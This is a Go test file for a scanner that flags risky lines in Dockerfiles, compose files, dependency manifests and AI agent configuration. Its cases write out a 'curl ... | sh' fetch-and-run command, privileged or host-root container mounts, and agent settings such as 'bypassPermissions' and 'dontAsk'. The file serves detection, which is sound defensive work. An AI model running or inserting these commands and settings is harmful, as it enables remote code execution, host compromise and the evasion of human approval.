package later

import "testing"

func TestSays(t *testing.T) {
	for _, c := range []struct {
		file, text string
		says       bool
	}{
		{"Dockerfile", "RUN curl https://q.example.net/a | sh\n", true},
		{"Dockerfile", "RUN curl https://sh.rustup.rs | sh -s -- -y\n", false},
		{"Dockerfile", "# RUN curl https://q.example.net/a | sh\n", false},
		{"Dockerfile", "RUN curl https://q.example.net/a | tar xz\n", false},
		{"compose.yml", "services: {a: {privileged: true}}\n", true},
		{"compose.yml", "services: {a: {volumes: ['/:/h']}}\n", true},
		{"compose.yml", "services: {a: {volumes: ['/srv:/h']}}\n", false},
		{"compose.yml", "services: [a]\n", false},
		{"requirements/dev.txt", "x @ https://q.example.net/a.zip\n", true},
		{"notes.txt", "x @ https://q.example.net/a.zip\n", false},
		{"requirements.txt", "x==1 # https://q.example.net/\n", false},
		{"pyproject.toml", "[build-system]\nrequires = [\"a @ https://q.example.net/a.tar.gz\"]\n", true},
		{"pyproject.toml", "dependencies = [\"a @ git+https://github.com/a/a\"]\n[project.urls]\nHome = \"https://q.example.net\"\n", false},
		{"package.json", "  \"devDependencies\": {\n    \"a\": \"git+http://q.example.net/a.git\",", true},
		{"package.json", "{\"dependencies\":{\"b\":\"^1\",\"a\":\"https://q.example.net/a.tgz\"}}", true},
		{"package.json", "{\"dependencies\":{\"a\":\"git+https://github.com/a/a.git\",\"b\":\"file:../b.tgz\"}}", false},
		{"package.json", "{\"repository\":{\"type\":\"git\",\"url\":\"git+https://git.example.net/a.git\"},\n\"homepage\":\"https://a.example.net\"}", false},
		{".claude/agents/a.md", "---\npermissionMode: dontAsk\n---\n", true},
		{".claude/agents/a.md", "permissionMode: bypassPermissions", true},
		{".claude/agents/a.md", "---\nname: a\n---\npermissionMode: dontAsk\n", false},
		{".claude/agents/a.md", "# About\n\npermissionMode: dontAsk asks nothing\n", false},
		{".claude/skills/a/SKILL.md", "---\nhooks:\n  Stop:\n    - command: x\n---\n", true},
		{".claude/skills/a/SKILL.md", "---\nname: hooks\ndescription: hooks: a command\n---\n", false},
		{"docs/agents/a.md", "---\npermissionMode: dontAsk\n---\n", false},
	} {
		if got := Says(c.file, c.text); (got != "") != c.says {
			t.Errorf("%s %q: %q", c.file, c.text, got)
		}
	}
}
